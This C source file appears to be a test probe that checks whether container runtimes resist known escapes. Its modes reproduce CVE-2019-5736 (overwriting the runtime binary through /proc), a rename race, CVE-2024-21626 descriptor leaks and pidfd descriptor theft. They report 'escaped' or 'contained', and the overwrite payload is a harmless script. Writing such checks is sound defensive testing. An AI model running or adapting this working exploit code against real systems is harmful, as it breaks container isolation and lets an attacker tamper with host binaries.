/* What hostile processes in containers do to runtimes: `attack ACT [ARGUMENT...]`
 *   exe SECONDS     CVE-2019-5736: wait for processes whose program is not ours, keep it open, and write to it when it
 *                   has ended; says "seen N" and "wrote N"
 *   swap A B        CVE-2021-30465 and others: exchange two names, over and over, until killed
 *   escape MARKER   CVE-2024-21626: look for MARKER, a path of the host, from the working directory and from each
 *                   descriptor upwards; says "escaped by ..." and ends with 1 if it is found, else "contained"
 *   look MARKER     take the descriptors of all other processes, and look for it from there, until it is found */
#include <dirent.h>
#include <errno.h>
#include <fcntl.h>
#include <signal.h>
#include <stdbool.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/stat.h>
#include <sys/syscall.h>
#include <time.h>
#include <unistd.h>

#define ATTACK_HELD 256

static bool attack_same(int fd, const struct stat *own)
{
    struct stat st;
    return fstat(fd, &st) != 0 || (st.st_dev == own->st_dev && st.st_ino == own->st_ino);
}

/* Holds each foreign program once for each process. Returns how many were added. */
static int attack_gather(int *held, int n, const struct stat *own)
{
    DIR *d = opendir("/proc");
    struct dirent *e;
    int before = n;
    while (d && (e = readdir(d)) && n < ATTACK_HELD) {
        char path[300];
        snprintf(path, sizeof path, "/proc/%s/exe", e->d_name);
        if (e->d_name[0] < '0' || e->d_name[0] > '9')
            continue;
        int fd = open(path, O_RDONLY | O_CLOEXEC);
        if (fd >= 0 && !attack_same(fd, own))
            held[n++] = fd;
        else if (fd >= 0)
            close(fd);
    }
    if (d)
        closedir(d);
    return n - before;
}

/* Tries to write to each; those that can be written are overwritten and let go. Returns how many were. */
static int attack_write(int *held, int n)
{
    static const char script[] = "#!/bin/sh\necho overwritten\nexit 66\n";
    int wrote = 0;
    for (int i = 0; i < n; i++) {
        char path[64];
        snprintf(path, sizeof path, "/proc/self/fd/%d", held[i]);
        int fd = open(path, O_WRONLY | O_CLOEXEC);
        if (fd >= 0) {
            wrote += write(fd, script, sizeof script - 1) > 0;
            close(fd);
        }
    }
    return wrote;
}

static int attack_exe(int seconds)
{
    static int held[ATTACK_HELD];
    struct stat own;
    int n = 0, wrote = 0;
    if (stat("/proc/self/exe", &own) != 0)
        return 4;
    printf("ready\n");
    for (time_t end = time(NULL) + seconds; time(NULL) < end;) {
        if (n < ATTACK_HELD / 2)
            n += attack_gather(held, n, &own);
        wrote += attack_write(held, n);
    }
    printf("seen %d\nwrote %d\n", n, wrote);
    return 0;
}

static int attack_swap(const char *a, const char *b)
{
    for (;;)
        if (syscall(SYS_renameat2, AT_FDCWD, a, AT_FDCWD, b, 2 /* RENAME_EXCHANGE */) != 0 && errno != ENOENT &&
            errno != EBUSY)
            return 4;
}

static bool attack_reaches(int folder, const char *marker)
{
    char path[8192] = "";
    for (int i = 0; i < 32; i++)
        strcat(path, "../");
    struct stat st;
    strncat(path, marker + 1, sizeof path - strlen(path) - 1);
    return fstatat(folder, path, &st, 0) == 0;
}

static int attack_escape(const char *marker)
{
    struct stat st;
    if (stat(marker, &st) == 0 || attack_reaches(AT_FDCWD, marker)) {
        printf("escaped by the working directory\n");
        return 1;
    }
    for (int fd = 0; fd < 1024; fd++)
        if (fcntl(fd, F_GETFD) >= 0 && fstat(fd, &st) == 0 && S_ISDIR(st.st_mode) && attack_reaches(fd, marker)) {
            printf("escaped by descriptor %d\n", fd);
            return 1;
        }
    for (int fd = 0; fd < 64; fd++) {
        char path[64];
        snprintf(path, sizeof path, "/proc/self/fd/%d", fd);
        if (chdir(path) == 0 && attack_reaches(AT_FDCWD, marker)) {
            printf("escaped by %s\n", path);
            return 1;
        }
    }
    printf("contained\n");
    return 0;
}

static void attack_look_at(int pid, const char *marker)
{
    int process = (int)syscall(SYS_pidfd_open, pid, 0);
    for (int fd = 0; process >= 0 && fd < 32; fd++) {
        int taken = (int)syscall(SYS_pidfd_getfd, process, fd, 0);
        if (taken >= 0 && attack_reaches(taken, marker)) {
            printf("escaped by descriptor %d of process %d\n", fd, pid);
            exit(1);
        }
        if (taken >= 0)
            close(taken);
    }
    if (process >= 0)
        close(process);
}

static void attack_look(const char *marker)
{
    printf("ready\n");
    for (;;) {
        DIR *d = opendir("/proc");
        struct dirent *e;
        while (d && (e = readdir(d)))
            if (e->d_name[0] >= '0' && e->d_name[0] <= '9' && atoi(e->d_name) != getpid())
                attack_look_at(atoi(e->d_name), marker);
        if (d)
            closedir(d);
    }
}

int main(int argc, char **argv)
{
    setvbuf(stdout, NULL, _IOLBF, 0);
    signal(SIGTERM, _exit);
    if (argc == 3 && strcmp(argv[1], "exe") == 0)
        return attack_exe(atoi(argv[2]));
    if (argc == 4 && strcmp(argv[1], "swap") == 0)
        return attack_swap(argv[2], argv[3]);
    if (argc == 3 && strcmp(argv[1], "escape") == 0)
        return attack_escape(argv[2]);
    if (argc == 3 && strcmp(argv[1], "look") == 0)
        attack_look(argv[2]);
    return 3;
}
